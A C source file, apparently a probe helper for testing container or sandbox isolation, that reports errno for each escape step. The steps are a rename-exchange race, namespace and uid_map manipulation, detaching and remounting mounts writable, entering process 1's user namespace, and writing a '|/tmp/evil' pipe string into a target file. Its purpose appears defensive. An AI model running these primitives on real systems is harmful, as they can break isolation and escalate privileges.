// Verbs that try to get out through mounts, ids and keys; on the host, the attacker's half of a race.
//
//   swap A B               exchanges two paths as fast as it can until it is ended; prints "ready" first
//   nested PATH            in a user and mount namespace of its own: takes PATH's mount away, makes it writable, moves a
//                          folder over it, mounts a new /proc; "what=errno" a line
//   undo PATH FILE         as root of its namespaces: takes PATH's mount away, makes it writable, writes FILE; as above
//   maps                   writes maps for itself, and enters the namespaces of process 1; as above
//   give PATH              chowns, chmods and opens a file of somebody else's; as above
//   node PATH              opens a device node for reading; exit errno
//   xattr PATH NAME VALUE  gives a file that attribute; exit errno
//   key hold NAME          keeps a key in the caller's user keyring until it is ended; prints "ready" first
//   key find NAME          looks for it in all keyrings it can name; exit errno
//   key session -          prints the number of its session keyring
#include "attack_mounts.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#define RENAME_EXCHANGE_ 2
#define KEY_USER_KEYRING (-4)
#define KEY_SESSION_KEYRING (-3)
#define KEYCTL_GET_KEYRING_ID_ 0
#define KEYCTL_UNLINK_ 9
#define KEYCTL_SEARCH_ 10

static volatile sig_atomic_t ended;
static void end(int number) { ended = number; }

static void until_ended(void) {
  struct sigaction action = {.sa_handler = end};
  sigaction(SIGTERM, &action, NULL);
  printf("ready\n");
  fflush(stdout);
}

static int swap(const char* a, const char* b) {
  until_ended();
  while (!ended) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE_) != 0) return errno;
  }
  return 0;
}

static void tell(const char* what, long outcome) { printf("%s=%d\n", what, outcome < 0 ? errno : 0); }

static int write_text(const char* path, const char* text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  int error = errno;
  close(fd);
  errno = error;
  return n < 0 ? -1 : 0;
}

static int nested(const char* path) {
  char map[64];
  snprintf(map, sizeof map, "0 %u 1", geteuid());
  tell("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
  tell("map", write_text("/proc/self/uid_map", map));
  tell("umount", umount2(path, MNT_DETACH));
  tell("remount", mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
  tell("proc", mount("proc", "/tmp", "proc", 0, NULL));
  tell("sysfs", mount("sysfs", "/tmp", "sysfs", 0, NULL));
  return 0;
}

static int undo(const char* path, const char* file) {
  tell("umount", umount2(path, MNT_DETACH));
  tell("remount", mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
  tell("write", write_text(file, "|/tmp/evil"));
  return 0;
}

static int maps(void) {
  int user = open("/proc/1/ns/user", O_RDONLY);
  tell("uid_map", write_text("/proc/self/uid_map", "0 0 4294967295"));
  tell("gid_map", write_text("/proc/self/gid_map", "0 0 4294967295"));
  tell("setgroups", write_text("/proc/self/setgroups", "deny"));
  tell("setns", setns(user, CLONE_NEWUSER));
  tell("setuid", setresuid(65536, 65536, 65536));
  return 0;
}

static int give(const char* path) {
  tell("open", open(path, O_RDWR));
  tell("chown", chown(path, 0, 0));
  tell("chmod", chmod(path, 0777));
  tell("unlink", unlink(path));
  return 0;
}

static int hold_key(const char* name) {
  long key = syscall(SYS_add_key, "user", name, "secret", 6, KEY_USER_KEYRING);
  if (key < 0) return errno;
  until_ended();
  while (!ended) pause();
  return syscall(SYS_keyctl, KEYCTL_UNLINK_, key, KEY_USER_KEYRING) < 0 ? errno : 0;
}

static int find_key(const char* name) {
  // Thread, process, session, user, user session, group: by their special numbers.
  for (int ring = -1; ring >= -6; ring--) {
    if (syscall(SYS_keyctl, KEYCTL_SEARCH_, ring, "user", name, 0) >= 0) return 0;
    if (errno == ENOSYS || errno == EPERM) return errno;
  }
  return ENOENT;
}

static int session_keyring(void) {
  long ring = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID_, KEY_SESSION_KEYRING, 0);
  printf("%ld\n", ring);
  return ring < 0 ? errno : 0;
}

static int key(const char* verb, const char* name) {
  if (!strcmp(verb, "session")) return session_keyring();
  return !strcmp(verb, "hold") ? hold_key(name) : find_key(name);
}

int attack_mounts(int argc, char** argv) {
  const char* verb = argc > 1 ? argv[1] : "";
  if (!strcmp(verb, "swap") && argc > 3) return swap(argv[2], argv[3]);
  if (!strcmp(verb, "nested") && argc > 2) return nested(argv[2]);
  if (!strcmp(verb, "undo") && argc > 3) return undo(argv[2], argv[3]);
  if (!strcmp(verb, "maps")) return maps();
  if (!strcmp(verb, "give") && argc > 2) return give(argv[2]);
  if (!strcmp(verb, "xattr") && argc > 4)
    return setxattr(argv[2], argv[3], argv[4], strlen(argv[4]), 0) == 0 ? 0 : errno;
  if (!strcmp(verb, "node") && argc > 2) return open(argv[2], O_RDONLY) < 0 ? errno : 0;
  if (!strcmp(verb, "key") && argc > 3) return key(argv[2], argv[3]);
  return -1;
}
